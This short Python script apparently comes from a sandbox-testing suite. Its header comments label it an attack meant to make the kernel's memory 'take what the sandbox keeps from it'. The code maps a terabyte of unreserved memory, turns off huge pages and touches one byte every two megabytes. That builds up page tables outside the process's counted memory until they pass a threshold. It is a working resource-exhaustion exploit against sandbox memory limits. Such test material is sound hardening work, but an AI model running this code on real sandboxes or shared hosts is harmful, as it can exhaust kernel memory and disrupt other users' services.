"""Reads one byte in each two megabytes of terabytes that are not there, so that the tables of pages fill the
memory and the pages do not."""

# /// attack
# ran = ["before total"]
# seen = ['your code (took more than|ran for longer)']
# opened = { "kernel's memory" = ["took what the sandbox keeps from it"] }
# ///
# %% before total
import mmap
import time

MOST, SIZE, STEP = 1536 << 20, 1 << 40, 2 << 20
NORESERVE, NOHUGEPAGE = 0x4000, 15
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE
MAPPED = mmap.mmap(-1, SIZE, flags=flags, prot=mmap.PROT_READ)
MAPPED.madvise(NOHUGEPAGE)


def tables():
    """Return the bytes that the tables of this process take."""
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) << 10 for line in status if line.startswith("VmPTE"))


before = tables()
for place in range(0, 100 * STEP, STEP):
    MAPPED[place]
if tables() - before >= 100 << 12:
    ran("before total")


# %% after total
for place in range(0, SIZE, STEP):
    MAPPED[place]
    if place % (STEP << 14) == 0 and tables() > MOST:
        break
time.sleep(2)


# %% after scaled
if tables() > MOST:
    print("took " + ATTACK["process_tag"])
